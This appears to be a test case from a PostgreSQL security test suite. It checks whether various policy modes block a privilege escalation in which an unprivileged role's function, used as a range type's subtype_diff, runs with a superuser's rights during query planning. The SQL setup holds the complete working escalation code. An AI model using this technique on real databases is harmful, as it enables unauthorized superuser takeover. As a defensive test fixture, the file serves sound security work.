/*---
title: A range type's subtype_diff runs while planning
pattern: "Plan-time execution: range selectivity estimation calls the range type's subtype_diff function"
description: >
  mallory defines a range type mallory.dayspan whose subtype_diff is her function, and a bookings table
  using it. Once the table has statistics, the planner estimates an overlap condition on the range
  column from its histogram by calling subtype_diff: when alice, a superuser, queries the bookings,
  mallory's function runs with her rights while the query is planned and makes mallory a superuser.
roles:
  alice: {superuser: true}
  mallory: {}
reality:
  query: SELECT rolsuper FROM pg_roles WHERE rolname = 'mallory'
  expect: "t"
expect:
  permissive: allowed
  ddl-needs-trusted-chain:
    blocked:
      - command: ALTER ROLE
        culprit: {kind: function, object: 'mallory.day_diff(double precision, double precision)', owner: mallory, phase: planning}
  no-untrusted-code-as-superuser:
    blocked:
      - command: EXECUTE FUNCTION
        culprit: {kind: function, object: 'mallory.day_diff(double precision, double precision)', owner: mallory, phase: planning}
  sandbox-untrusted:
    blocked:
      - command: ALTER ROLE
        culprit: {kind: function, object: 'mallory.day_diff(double precision, double precision)', owner: mallory, phase: planning}
  strict-trusted-chain:
    blocked:
      - command: EXECUTE FUNCTION
        culprit: {kind: function, object: 'mallory.day_diff(double precision, double precision)', owner: mallory, phase: planning}
  strict-trusted-chain-infrastructure:
    blocked:
      - command: EXECUTE FUNCTION
        culprit: {kind: function, object: 'mallory.day_diff(double precision, double precision)', owner: mallory, phase: planning}
  strict-trusted-chain-membership:
    blocked:
      - command: EXECUTE FUNCTION
        culprit: {kind: function, object: 'mallory.day_diff(double precision, double precision)', owner: mallory, phase: planning}
  strict-trusted-chain-since-definer:
    blocked:
      - command: EXECUTE FUNCTION
        culprit: {kind: function, object: 'mallory.day_diff(double precision, double precision)', owner: mallory, phase: planning}
---*/

-- @setup
CREATE SCHEMA mallory AUTHORIZATION mallory;
GRANT USAGE ON SCHEMA mallory TO PUBLIC;
SET ROLE mallory;
-- swallows the permission error so that mallory's own ANALYZE, which runs subtype_diff as her, succeeds
CREATE FUNCTION mallory.f_escalate() RETURNS integer LANGUAGE plpgsql AS $$
BEGIN
    ALTER ROLE mallory SUPERUSER;
    RETURN 1;
EXCEPTION WHEN insufficient_privilege THEN
    RETURN 0;
END $$;
CREATE FUNCTION mallory.day_diff(a float8, b float8) RETURNS float8 LANGUAGE plpgsql IMMUTABLE AS $$
BEGIN
    PERFORM mallory.f_escalate();
    RETURN a - b;
END $$;
CREATE TYPE mallory.dayspan AS RANGE (subtype = float8, subtype_diff = mallory.day_diff);
CREATE TABLE mallory.bookings(id integer, span mallory.dayspan);
INSERT INTO mallory.bookings SELECT g, mallory.dayspan(g, g + 3) FROM generate_series(1, 40) g;
ANALYZE mallory.bookings;
GRANT SELECT ON mallory.bookings TO PUBLIC;
RESET ROLE;

-- @step alice
SELECT count(*) FROM mallory.bookings WHERE span && mallory.dayspan(10, 12);
